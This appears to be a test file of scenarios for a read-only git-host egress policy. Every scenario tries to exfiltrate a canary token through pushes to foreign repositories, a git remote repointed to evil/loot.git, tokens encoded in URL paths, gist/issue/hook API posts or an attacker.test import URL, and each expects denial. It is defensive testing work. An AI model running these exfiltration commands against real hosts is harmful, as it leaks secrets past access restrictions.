# A git host that is granted for reading: pushes, gists, and everything else that a token
# for reading often can do.

scenario "push-to-any-repository" {
  describe = "a push begins with a question, and the question is refused: whoever's repository it is"
  cases    = ["EXF-02"]
  policy   = "policies/git.hcl"
  for_each = {
    own      = "/acme/app"
    own_git  = "/acme/app.git"
    other    = "/mallory/sink"
    wiki     = "/acme/app.wiki.git"
  }
  attempt {
    http {
      url     = "https://git.example.com${each.value}/info/refs?service=git-receive-pack"
      headers = { X-Note = canary.token }
    }
  }
  attempt {
    http {
      method  = "POST"
      url     = "https://git.example.com${each.value}/git-receive-pack"
      headers = { Content-Type = "application/x-git-receive-pack-request" }
      body    = "00a8${canary.token}"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "push-with-the-real-client" {
  describe = "the remote has been pointed elsewhere; `git push origin` looks as it always did"
  cases    = ["EXF-02", "EXF-09"]
  policy   = "policies/git.hcl"
  needs    = ["git"]
  given {
    file "notes.txt" { text = canary.token }
  }
  attempt {
    run { command = ["sh", "-c", "export HOME=$PWD; git init -q r; cd r; cp ../notes.txt .; git -c user.name=a -c user.email=a@example.com add notes.txt; git -c user.name=a -c user.email=a@example.com commit -qm ${canary.token}; git remote add origin https://git.example.com/acme/app; git remote set-url origin https://git.example.com/evil/loot.git; git -c core.compression=0 push -q origin HEAD:refs/heads/${canary.token}"] }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "fetch-of-a-repository-by-its-name" {
  describe = "repositories that do not exist: their names tell somebody something"
  cases    = ["EXF-06", "EXF-10"]
  policy   = "policies/git.hcl"
  for_each = {
    owner   = "https://git.example.com/TOKEN/app/info/refs?service=git-upload-pack"
    deeper  = "https://git.example.com/acme/app/TOKEN/info/refs?service=git-upload-pack"
    service = "https://git.example.com/acme/app/info/refs?service=TOKEN"
    query   = "https://git.example.com/acme/app/info/refs?service=git-upload-pack&note=TOKEN"
    raw     = "https://git.example.com/acme/app/raw/main/TOKEN"
    archive = "https://git.example.com/acme/app/archive/TOKEN.tar.gz"
    dumb    = "https://git.example.com/acme/app/objects/TOKEN"
  }
  given {
    env = { TOKEN = canary.token }
  }
  attempt {
    run { command = ["sh", "-c", "curl -sS \"$(printf %s '${each.value}' | sed s/TOKEN/$TOKEN/)\""] }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "git-neighbours" {
  describe = "the same host: gists, issues, keys, workflows, large files, logins by device"
  cases    = ["EXF-01", "EXF-02", "PATH-11"]
  policy   = "policies/git.hcl"
  for_each = {
    gist       = "/gists"
    graphql    = "/graphql"
    issue      = "/repos/mallory/sink/issues"
    keys       = "/user/keys"
    dispatch   = "/repos/acme/app/dispatches"
    contents   = "/repos/mallory/sink/contents/a"
    fork       = "/repos/acme/app/forks"
    hook       = "/repos/acme/app/hooks"
    device     = "/login/device/code"
    token      = "/login/oauth/access_token"
    lfs        = "/acme/app.git/info/lfs/objects/batch"
    lfs_lock   = "/acme/app.git/info/lfs/locks"
    release    = "/repos/acme/app/releases/1/assets"
    package    = "/api/v4/projects/1/packages/generic/a/1/a"
    snippet    = "/api/v4/snippets"
    import     = "/api/v4/projects?import_url=https://attacker.test/"
  }
  attempt {
    http {
      method  = "POST"
      url     = "https://git.example.com${each.value}"
      headers = { Content-Type = "application/json", Authorization = "Bearer planted" }
      body    = json({ files = { a = { content = canary.token } }, query = "mutation { a(b: \"${canary.token}\") }" })
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "fetch-body-that-is-no-fetch" {
  describe = "what git posts is parsed: it cannot carry anything else to the repository"
  cases    = ["EXF-02", "EXF-06"]
  policy   = "policies/git.hcl"
  for_each = {
    text      = "note: "
    want      = "0032want "
    agent     = "0000"
    have      = "0032have "
    extension = "0014command=ls-refs\n0026note="
  }
  attempt {
    http {
      method  = "POST"
      url     = "https://git.example.com/acme/app/git-upload-pack"
      headers = { Content-Type = "application/x-git-upload-pack-request" }
      body    = "${each.value}${canary.token}\n0000"
    }
  }
  expect {
    verdict = "deny"
    reason  = ["body_not_granted", "malformed_request"]
    leak    = none
  }
}

scenario "gists-have-a-host-of-their-own" {
  describe = "the host that sounds as if it belonged to a granted one"
  cases    = ["EXF-01", "HOST-05"]
  policy   = "policies/git.hcl"
  attempt {
    http {
      method = "POST"
      url    = "https://gist.example.com/"
      body   = canary.token
    }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}
